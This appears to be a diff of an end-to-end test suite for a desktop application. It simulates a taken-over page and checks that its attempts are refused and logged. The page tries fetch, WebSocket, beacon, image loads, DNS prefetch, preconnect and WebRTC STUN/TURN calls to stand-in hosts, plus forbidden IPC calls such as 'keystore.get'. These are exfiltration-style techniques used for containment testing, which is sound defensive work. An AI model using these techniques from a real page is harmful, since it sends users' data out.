@@ -1,20 +1,46 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { givePageTools, pageAttempts, permissionAttempts } from './attempts.ts'
+import { canWatch, createWatch, routeQuestions } from './connects.ts'
+import { createVault, inside, outside, supervisor, unlock } from './door.ts'
 import { launchApp, type RunningApp, temporaryFolder } from './runningApp.ts'
 
+/** A page that has been taken over, in the running application: what it tries, and what becomes of it. */
+
 let folder: Awaited<ReturnType<typeof temporaryFolder>>
+let watchFolder: Awaited<ReturnType<typeof temporaryFolder>>
+let watch: ReturnType<typeof createWatch>
 let app: RunningApp
 
 beforeAll(async () => {
   folder = await temporaryFolder()
-  app = await launchApp(folder.path)
+  watchFolder = await temporaryFolder()
+  watch = createWatch(watchFolder.path)
+  app = await launchApp(folder.path, 'profile', { through: canWatch ? watch.through : undefined })
+  await createVault(app)
+  await (await app.window()).evaluate(givePageTools)
 })
 afterAll(async () => {
   await app.close()
   await folder[Symbol.asyncDispose]()
+  await watchFolder[Symbol.asyncDispose]()
 })
 
 /** How often the application has refused an attempt of this kind so far. */
 const refusals = (attempt: string) => app.output().split(`refused: ${attempt}\n`).length - 1
+
+/** Asks the application as its page does. */
+async function call(name: string, input?: unknown): Promise<{ ok: boolean; value?: unknown }> {
+  const page = await app.window()
+  return page.evaluate(
+    ([request, given]) => {
+      const { sealdesk } = globalThis as unknown as {
+        sealdesk: { call(name: string, input: unknown): Promise<{ ok: boolean }> }
+      }
+      return sealdesk.call(request, given)
+    },
+    [name, input] as const,
+  )
+}
 
 describe('a page that has been taken over', () => {
   it('finds no Node and no more of the application than two functions', async () => {
@@ -26,88 +52,28 @@ describe('a page that has been taken over', () => {
     expect(seen).toEqual({ node: [], bridge: ['call', 'subscribe'] })
   })
 
-  it('cannot run a script that was written into it', async () => {
-    const page = await app.window()
-    const blocked = await page.evaluate(async () => {
-      const violation = new Promise<string>((resolve) => {
-        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective))
-        setTimeout(() => resolve('none within two seconds'), 2000)
-      })
-      const script = document.createElement('script')
-      script.textContent = 'globalThis.ran = true'
-      document.body.append(script)
-      return { directive: await violation, ran: 'ran' in globalThis }
-    })
-    expect(blocked).toEqual({ directive: 'script-src-elem', ran: false })
-  })
+  it.each(pageAttempts.map(({ what, countedAs, tries }) => [what, countedAs, tries] as const))(
+    'is refused %s, and that is counted: %s',
+    async (_what, countedAs, tries) => {
+      const page = await app.window()
+      const before = refusals(countedAs)
+      const address = page.url()
+      expect(await page.evaluate(tries)).toBe('refused')
+      await expect.poll(() => refusals(countedAs)).toBeGreaterThan(before)
+      expect(page.url()).toBe(address)
+      await expect.poll(() => page.context().pages().length).toBe(1)
+    },
+  )
 
-  it('cannot fetch, open a socket, send a beacon or load an image from anywhere else', async () => {
-    const page = await app.window()
-    const blocked = await page.evaluate(async () => {
-      const violations: string[] = []
-      document.addEventListener('securitypolicyviolation', (event) =>
-        violations.push(event.effectiveDirective),
-      )
-      const fetched = await fetch('https://foreign.example/').then(
-        () => 'answered',
-        () => 'refused',
-      )
-      const socket = await new Promise<string>((resolve) => {
-        try {
-          const opened = new WebSocket('wss://foreign.example/')
-          opened.onopen = () => resolve('opened')
-          opened.onerror = () => resolve('refused')
-        } catch {
-          resolve('refused')
-        }
-      })
-      const image = await new Promise<string>((resolve) => {
-        const foreign = new Image()
-        foreign.onload = () => resolve('loaded')
-        foreign.onerror = () => resolve('refused')
-        foreign.src = 'https://foreign.example/pixel.png'
-      })
-      navigator.sendBeacon('https://foreign.example/', 'x')
-      return { fetched, socket, image, violations: [...new Set(violations)].sort() }
-    })
-    expect(blocked).toEqual({
-      fetched: 'refused',
-      socket: 'refused',
-      image: 'refused',
-      violations: ['connect-src', 'img-src'],
-    })
-  })
-
-  it('cannot go elsewhere', async () => {
-    const page = await app.window()
-    const before = page.url()
-    const refused = refusals('navigation')
-    await page.evaluate(() => {
-      location.href = 'https://foreign.example/'
-    })
-    await expect.poll(() => refusals('navigation')).toBeGreaterThan(refused)
-    expect(page.url()).toBe(before)
-  })
-
-  it('cannot open a window', async () => {
-    const page = await app.window()
-    await page.evaluate(() => void window.open('https://foreign.example/'))
-    await expect.poll(() => refusals('window')).toBe(1)
-    await expect.poll(() => page.context().pages().length).toBe(1)
-  })
-
-  it('cannot download', async () => {
-    const page = await app.window()
-    await page.evaluate(() => {
-      const link = document.createElement('a')
-      link.href = URL.createObjectURL(new Blob(['secret']))
-      link.download = 'secret.txt'
-      link.click()
-    })
-    await expect.poll(() => refusals('download')).toBe(1)
-  })
-
-  it.each(['geolocation', 'notifications', 'camera', 'midi'])('is denied %s', async (name) => {
+  it.each([
+    'geolocation',
+    'notifications',
+    'camera',
+    'microphone',
+    'midi',
+    'clipboard-read',
+    'background-sync',
+  ])('is denied %s', async (name) => {
     const page = await app.window()
     const state = await page.evaluate(
       async (permission) => (await navigator.permissions.query({ name: permission as PermissionName })).state,
@@ -115,6 +81,13 @@ describe('a page that has been taken over', () => {
     )
     expect(state).toBe('denied')
   })
+
+  it.each(permissionAttempts.map(({ what, tries }) => [what, tries] as const))(
+    'gets none by asking for %s',
+    async (_what, tries) => {
+      expect(await (await app.window()).evaluate(tries)).toBe('refused')
+    },
+  )
 
   it.each([
     '../package.json',
@@ -130,15 +103,77 @@ describe('a page that has been taken over', () => {
   })
 
   it('gets an answer only to requests of the contract', async () => {
+    for (const name of ['__proto__.toString', 'decoder.page', 'keystore.get'])
+      expect(await call(name)).toMatchObject({ ok: false, error: { code: 'ipc/invalid-input' } })
+  })
+
+  it('has nobody called, and no way looked up, also where nobody could tell of it', async () => {
     const page = await app.window()
-    const outcome = await page.evaluate(() => {
-      const { sealdesk } = globalThis as unknown as { sealdesk: { call(name: string): Promise<unknown> } }
-      return Promise.all([sealdesk.call('__proto__.toString'), sealdesk.call('decoder.page')])
+    const candidates = await page.evaluate(async () => {
+      for (const [rel, href] of [
+        ['dns-prefetch', 'https://foreign.example/'],
+        ['preconnect', 'https://foreign.example/'],
+        ['preconnect', 'https://192.0.2.9/'],
+      ] as const)
+        document.head.append(Object.assign(document.createElement('link'), { rel, href }))
+      const relay = { username: 'a', credential: 'b' }
+      const connection = new RTCPeerConnection({
+        iceServers: [
+          { urls: 'stun:192.0.2.8:3478' },
+          { urls: ['turn:192.0.2.7:80?transport=tcp', 'turns:192.0.2.6:443?transport=tcp'], ...relay },
+        ],
+      })
+      const found: string[] = []
+      connection.onicecandidate = ({ candidate }) => candidate && found.push(candidate.candidate)
+      connection.createDataChannel('x')
+      const gathered = new Promise((resolve) => {
+        connection.onicegatheringstatechange = () =>
+          connection.iceGatheringState === 'complete' && resolve(null)
+      })
+      await connection.setLocalDescription(await connection.createOffer())
+      await gathered
+      return found
     })
-    expect(outcome).toEqual([
-      { ok: false, error: expect.objectContaining({ code: 'ipc/invalid-input' }) },
-      { ok: false, error: expect.objectContaining({ code: 'ipc/invalid-input' }) },
-    ])
+    expect(candidates).toEqual([])
+  })
+})
+
+describe('what was refused', () => {
+  it('stands in the diagnostics by kind and number', async () => {
+    const { value } = await call('diagnostics.show')
+    const { refusals: counted } = JSON.parse(String(value)) as { refusals: Record<string, number> }
+    for (const kind of new Set(pageAttempts.map(({ countedAs }) => countedAs)))
+      expect(counted, kind).toMatchObject({ [kind]: refusals(kind) })
+  })
+
+  it("stands in the vault's log by kind and number, and nothing of where it was to go", async () => {
+    // What came after the first is told when the vault is opened next, or once a minute.
+    await app.leaveDesk('suspend')
+    await outside(app)
+    await unlock(app, supervisor.passphrase)
+    await inside(app)
+    const { value } = await call('audit.list', {
+      batch: null,
+      filter: { action: 'attempt.refused' },
+      offset: 0,
+      limit: 1000,
+    })
+    const { entries } = value as { entries: { on: string; detail: { times: number } }[] }
+    const logged = Object.groupBy(entries, ({ on }) => on)
+    for (const kind of new Set(pageAttempts.map(({ countedAs }) => countedAs)))
+      expect(
+        logged[kind]?.reduce((sum, { detail }) => sum + detail.times, 0),
+        kind,
+      ).toBe(refusals(kind))
+    expect(JSON.stringify(entries)).not.toMatch(/foreign|example|http|192\.0\.2/)
+  })
+
+  it('is read by the supervisor in words', async () => {
+    const page = await app.window()
+    await page.keyboard.press('Alt+a')
+    const log = page.getByRole('grid', { name: '审计日志' })
+    await log.getByText('嵌入框架').first().waitFor()
+    expect(await log.getByText('拒绝页面的企图').count()).toBeGreaterThan(1)
   })
 })
 
@@ -156,4 +191,13 @@ describe('the page that the application serves', () => {
       'cache-control': 'no-store',
     })
   })
+})
+
+it.skipIf(!canWatch)('whatever the page tried, nobody was connected to and nothing was sent', async () => {
+  await app.close()
+  const { local, connected, pointedAt, sent } = await watch.reached()
+  expect(local).toBeGreaterThan(0)
+  expect(connected).toEqual([])
+  expect(sent).toEqual([])
+  expect(pointedAt.filter((address) => !routeQuestions.includes(address))).toEqual([])
 })
